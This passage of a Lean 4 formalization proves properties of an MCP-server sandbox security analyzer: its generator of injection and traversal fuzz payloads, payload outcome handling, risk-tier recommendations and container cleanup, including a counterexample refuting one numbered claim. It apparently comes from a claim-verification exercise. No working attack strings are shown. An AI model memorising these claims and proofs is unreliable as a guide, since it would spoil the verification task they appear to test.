    ∧ (∀ p ∈ schema.properties, p.ptype.getD "string" = "string" →
        2 ≤ (generate_manual_payloads schema).countP (fun pl =>
              pl.is_malicious && pl.attack_type == AttackType.COMMAND_INJECTION
                && pl.payload.any (fun kv => kv.1 == p.name))
        ∧ 2 ≤ (generate_manual_payloads schema).countP (fun pl =>
              pl.is_malicious && pl.attack_type == AttackType.PATH_TRAVERSAL
                && pl.payload.any (fun kv => kv.1 == p.name))
        ∧ 2 ≤ (generate_manual_payloads schema).countP (fun pl =>
              pl.is_malicious && pl.attack_type == AttackType.SQL_INJECTION
                && pl.payload.any (fun kv => kv.1 == p.name)))
    ∧ (generate_manual_payloads schema).countP (fun pl => !pl.is_malicious) = 1
    ∧ (∀ pl ∈ generate_manual_payloads schema, pl.is_malicious = false →
        pl.payload = validPayload schema.properties
        ∧ ∀ p ∈ schema.properties,
            (p.ptype.getD "string" = "string" →
              (p.name, PayloadValue.str "test") ∈ pl.payload)
            ∧ (p.ptype.getD "string" = "number" →
              (p.name, PayloadValue.num 42) ∈ pl.payload)
            ∧ (p.ptype.getD "string" = "boolean" →
              (p.name, PayloadValue.bool true) ∈ pl.payload)) := by
  have hne : schema.properties.isEmpty = false := by
    cases hp : schema.properties with
    | nil => exact absurd hp h
    | cons a l => rfl
  refine ⟨?_, ?_, ?_, ?_⟩
  · unfold generate_adversarial_payloads
    simp
  · intro p hp hstr
    have h1 := countP_manual_ge_block schema p hp hstr
    have h2 := adversarialForProp_counts (schema.name.getD "unknown") p.name
    exact ⟨h2.1 ▸ h1 _, h2.2.1 ▸ h1 _, h2.2.2 ▸ h1 _⟩
  · unfold generate_manual_payloads
    rw [List.countP_append]
    have hz : (schema.properties.flatMap fun p =>
        if p.ptype.getD "string" = "string" then
          adversarialForProp (schema.name.getD "unknown") p.name
        else []).countP (fun pl => !pl.is_malicious) = 0 := by
      rw [List.countP_eq_zero]
      intro pl hpl
      simp [advBlock_malicious schema pl hpl]
    rw [hz, hne]
    rfl
  · intro pl hpl hmal
    unfold generate_manual_payloads at hpl
    rw [List.mem_append] at hpl
    rcases hpl with hadv | hben
    · have := advBlock_malicious schema pl hadv
      rw [this] at hmal
      cases hmal
    · rw [hne] at hben
      rcases List.mem_singleton.mp hben with rfl
      refine ⟨rfl, ?_⟩
      intro p hp
      refine ⟨?_, ?_, ?_⟩ <;> intro hty <;>
        exact List.mem_filterMap.mpr ⟨p, hp, by simp [hty]⟩

/-- Concrete schema exercising the manual generator: one string and one
number property. -/
def schemaW : ToolSchema :=
  { name := some "echo"
    properties := [{ name := "cmd", ptype := some "string" },
                   { name := "count", ptype := some "number" }] }

/-- Claim C6 witness: the manual set for `schemaW` is the no-key output,
has at least 2 command-injection payloads keyed by `cmd`, and exactly one
benign payload, whose mapping is `cmd ↦ "test", count ↦ 42`. -/
theorem manual_payload_generation_witness :
    generate_adversarial_payloads none schemaW = generate_manual_payloads schemaW
    ∧ 2 ≤ (generate_manual_payloads schemaW).countP (fun pl =>
        pl.is_malicious && pl.attack_type == AttackType.COMMAND_INJECTION
          && pl.payload.any (fun kv => kv.1 == "cmd"))
    ∧ (generate_manual_payloads schemaW).countP (fun pl => !pl.is_malicious) = 1 := by
  have h := manual_payload_generation schemaW (by decide)
  exact ⟨h.1,
    (h.2.1 { name := "cmd", ptype := some "string" } (by decide) (by decide)).1,
    h.2.2.1⟩

/-- Claim C7: A payload whose submission or response decoding fails at the
transport level yields `success=false`, error text set, response absent
and both indicator lists empty; a successful call whose response matches
no indicator yields `success=true`, no error text, the response kept and
both lists empty — among the outcome fields of the claim, the two cases
differ only in the success flag and the error text. -/
theorem execute_payload_outcomes :
    (∀ (p : FuzzPayload) (e : String),
      execute_payload p (.raises e)
        = { payload := p, success := false, response := none,
            error := some e, leaked_data := [], suspicious_behavior := [] })
    ∧ (∀ (p : FuzzPayload) (body : String),
        credential_patterns.any
          (fun q => strContains (strToLower body) q) = false →
        filesystem_patterns.any
          (fun q => strContains (strToLower body) q) = false →
        execution_patterns.any
          (fun q => strContains (strToLower body) q) = false →
        execute_payload p (.ok body)
          = { payload := p, success := true, response := some body,
              error := none, leaked_data := [], suspicious_behavior := [] }) := by
  refine ⟨fun p e => rfl, fun p body h1 h2 h3 => ?_⟩
  unfold execute_payload
  simp [h1, h2, h3]

/-- The benign baseline payload of `schemaW`, used to exercise
`execute_payload`. -/
def payloadW : FuzzPayload :=
  { tool_name := "echo"
    attack_type := .COMMAND_INJECTION
    payload := [("cmd", .str "test")]
    description := "Valid baseline payload"
    is_malicious := false }

/-- Claim C7 witness: a concrete transport failure and a concrete clean
response. -/
theorem execute_payload_outcomes_witness :
    execute_payload payloadW (.raises "ConnectError")
      = { payload := payloadW, success := false, response := none,
          error := some "ConnectError", leaked_data := [],
          suspicious_behavior := [] }
    ∧ execute_payload payloadW (.ok "OK: done")
      = { payload := payloadW, success := true, response := some "OK: done",
          error := none, leaked_data := [], suspicious_behavior := [] } :=
  ⟨execute_payload_outcomes.1 payloadW "ConnectError",
   execute_payload_outcomes.2 payloadW "OK: done"
     (by decide) (by decide) (by decide)⟩

/-- The critical-count a recommendation line reports (0 when scan
evidence is absent). -/
def criticalCountOf : Option ScanResult → Nat
  | none => 0
  | some sr => sr.critical_count

/-- The number of fuzz evidences with a non-empty leak-indicator list. -/
def leakCountOf (fuzz : List FuzzResult) : Nat :=
  fuzz.countP (fun r => !r.leaked_data.isEmpty)

/-- The number of behavioral alerts (0 when behavior evidence is
absent). -/
def alertCountOf : Option BehaviorReport → Nat
  | none => 0
  | some br => br.alerts.length

/-- Recommendation generation as §4.6 of the specification words it:
three headline tiers selected by the score (critical above 70, warning in
the (40, 70] band, moderate at and below 40), then one detail line per
evidence category exactly when its count is nonzero. -/
def recommendationsSpec (risk_score : Nat) (scan : Option ScanResult)
    (fuzz : List FuzzResult) (behav : Option BehaviorReport) : List String :=
  (if 70 < risk_score then
    ["❌ CRITICAL: Do not use this MCP server in production",
     "🔒 High risk of security breach detected"]
   else if 40 < risk_score then
    ["⚠️  WARNING: Use with extreme caution",
     "🔍 Review and fix identified vulnerabilities"]
   else
    ["✓ Moderate risk level",
     "🔧 Address minor issues before deployment"])
  ++ (if criticalCountOf scan ≠ 0 then
        ["🐛 Fix " ++ toString (criticalCountOf scan) ++
         " critical vulnerabilities"]
      else [])
  ++ (if leakCountOf fuzz ≠ 0 then
        ["🔐 Fix " ++ toString (leakCountOf fuzz) ++
         " data leak vulnerabilities"]
      else [])
  ++ (if alertCountOf behav ≠ 0 then ["👁️  Review behavioral alerts"]
      else [])

/-- Claim C8: For every final score and evidence, the recommendation list
is exactly the deterministic function described by the spec — headline
tier by score (critical above 70, warning in the (40, 70] band, moderate
at and below 40) followed by one per-category detail line exactly when
the corresponding count is nonzero — and it is never empty, even with all
evidence absent. -/
theorem recommendations_match_spec (risk_score : Nat)
    (scan : Option ScanResult) (fuzz : List FuzzResult)
    (behav : Option BehaviorReport) :
    generate_recommendations risk_score scan fuzz behav
      = recommendationsSpec risk_score scan fuzz behav
    ∧ generate_recommendations risk_score scan fuzz behav ≠ [] := by
  have heq : generate_recommendations risk_score scan fuzz behav
      = recommendationsSpec risk_score scan fuzz behav := by
    unfold generate_recommendations recommendationsSpec criticalCountOf
      leakCountOf alertCountOf
    rcases scan with _ | sr <;> rcases behav with _ | br <;>
      rcases fuzz with _ | ⟨r, rs⟩ <;>
      simp [Nat.pos_iff_ne_zero, List.isEmpty_iff, List.length_eq_zero]
  refine ⟨heq, ?_⟩
  rw [heq]
  unfold recommendationsSpec
  split_ifs <;> simp

/-- Claim C2: When the isolation environment cannot be provisioned
(`_setup_isolation` returns `None`), `run()` returns status FAILED, risk
score exactly 100, a recommendation list with exactly one entry naming
the cause, an empty fuzz-evidence list and absent behavior evidence. -/
theorem failed_isolation_result (env : RunEnv)
    (h : env.isolationOutcome = none) :
    (run_complete_analysis env).1.status = .FAILED
    ∧ (run_complete_analysis env).1.overall_risk_score = 100
    ∧ (run_complete_analysis env).1.recommendations
        = ["Analysis failed: Failed to create sandbox"]
    ∧ (run_complete_analysis env).1.fuzz_results = []
    ∧ (run_complete_analysis env).1.behavior_report = none := by
  unfold run_complete_analysis
  rw [h]
  exact ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- A run in which the sandbox image is missing: isolation provisioning
fails, everything else would have succeeded. -/
def envNoImage : RunEnv :=
  { scanOutcome := none
    isolationOutcome := none
    interrogationOutcome := .ok []
    monitorBatch := .ok ⟨[], [], [], []⟩
    cleanupFails := false
    startTimeStr := "2024-01-01T00:00:00"
    collectTimeStr := "2024-01-01T00:00:10"
    duration := 10 }

/-- Claim C2 witness: the concrete missing-image run. -/
theorem failed_isolation_result_witness :
    (run_complete_analysis envNoImage).1.status = .FAILED
    ∧ (run_complete_analysis envNoImage).1.overall_risk_score = 100
    ∧ (run_complete_analysis envNoImage).1.recommendations
        = ["Analysis failed: Failed to create sandbox"]
    ∧ (run_complete_analysis envNoImage).1.fuzz_results = []
    ∧ (run_complete_analysis envNoImage).1.behavior_report = none :=
  failed_isolation_result envNoImage rfl

/-- A run in which the container is provisioned and the interrogation
phase then raises into `run_complete_analysis`. -/
def envLatePhaseRaises : RunEnv :=
  { scanOutcome := none
    isolationOutcome := some "mcp-sandbox-1700000000"
    interrogationOutcome := .raises "ConnectError"
    monitorBatch := .ok ⟨[], [], [], []⟩
    cleanupFails := false
    startTimeStr := "2024-01-01T00:00:00"
    collectTimeStr := "2024-01-01T00:00:10"
    duration := 10 }

/-- Claim C3 counterexample: The claim asserts the isolation handle is
released exactly once on *every* exit path, including an internal
exception raised by a later phase. In the code no `try`/`finally` guards
the container: the outer `except Exception` handler returns the failed
result directly, and `_cleanup_container` — which sits on the
straight-line path after monitoring — is never reached. In a concrete run
where interrogation raises after the container was acquired, teardown is
invoked zero times, not once. -/
theorem cleanup_skipped_on_exception :
    (run_complete_analysis envLatePhaseRaises).2 = 0
    ∧ (run_complete_analysis envLatePhaseRaises).1.status = .FAILED := by
  exact ⟨rfl, rfl⟩

/-- Claim C3, amended: Teardown is invoked exactly once on the
straight-line path — isolation provisioned and neither later phase
raising — and zero times on every other exit path; when it is invoked, a
teardown failure is swallowed without re-raising and without changing the
returned result. -/
theorem cleanup_once_on_normal_path (env : RunEnv) :
    ((run_complete_analysis env).2
      = match env.isolationOutcome, env.interrogationOutcome,
          env.monitorBatch with
        | some _, .ok _, .ok _ => 1
        | _, _, _ => 0)
    ∧ (∀ b : Bool,
        run_complete_analysis { env with cleanupFails := b }
          = run_complete_analysis env) := by
  constructor
  · obtain ⟨sc, iso, intr, mon, cf, st, ct, d⟩ := env
    rcases iso with _ | c <;> rcases intr with f | e <;>
      rcases mon with b | e2 <;> rfl
  · intro b
    rfl

/-! ## Monitor accumulation (C10) -/

/-- Iterated `generate_report` calls: the monitor state after a sequence
of collections, each described by its probe batch and collection time. -/
def runReports (s : MonitorState) (calls : List (ProbeBatch × String)) :
    MonitorState :=
  calls.foldl (fun st c => (generate_report st c.1 c.2).2) s

/-- The state after a sequence of collections holds the initial events
followed by every batch's events in call order. -/
theorem runReports_events (calls : List (ProbeBatch × String))
    (s : MonitorState) :
    (runReports s calls).events
      = s.events ++ (calls.map (fun c => c.1.all)).flatten := by
  induction calls generalizing s with
  | nil => simp [runReports]
  | cons c cs ih =>
      rw [runReports, List.foldl_cons, ← runReports, ih]
      simp [generate_report]

/-- Claim C10: `generate_report` accumulates: each call appends the four
probes\x27 freshly gathered events (in probe order) to the monitor\x27s
persistent event list and reports the extended list, so the n-th call
after a `start_monitoring` reports the events of all n collections;
`start_monitoring` resets the event list to empty and the window start to
the current time. -/
theorem monitor_accumulates (s : MonitorState) (batch : ProbeBatch)
    (now now0 : String) (calls : List (ProbeBatch × String)) :
    (generate_report s batch now).1.events = s.events ++ batch.all
    ∧ (generate_report s batch now).2.events = s.events ++ batch.all
    ∧ (generate_report s batch now).1.start_time = s.start_time
    ∧ start_monitoring s now0 = { events := [], start_time := now0 }
    ∧ (runReports (start_monitoring s now0) calls).events
        = (calls.map (fun c => c.1.all)).flatten := by
  refine ⟨rfl, rfl, rfl, rfl, ?_⟩
  rw [runReports_events]
  rfl

end MCPSandbox
